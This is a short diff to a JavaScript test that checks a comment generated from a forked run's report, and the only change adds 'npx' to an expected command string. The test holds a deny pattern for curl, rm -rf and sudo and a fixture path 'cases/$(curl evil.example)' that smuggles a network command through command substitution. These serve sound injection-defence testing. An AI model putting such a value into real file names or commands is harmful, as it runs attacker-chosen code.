@@ -89,7 +89,7 @@ describe("the report that a fork's run left", () => {
     const [body = ""] = comments;
     expect(body).not.toMatch(/curl|rm -rf|sudo/);
     expect(body).toContain("npx replaykit replay cases/search-loop\n");
-    expect(body).toContain("replaykit guard search-loop");
+    expect(body).toContain("npx replaykit guard search-loop");
     const long = await afterRun({ branch: "long" }, (report) => ({
       ...report,
       cases: report.cases.map((result) => ({ ...result, path: "cases/$(curl evil.example)", reason: "x" })),
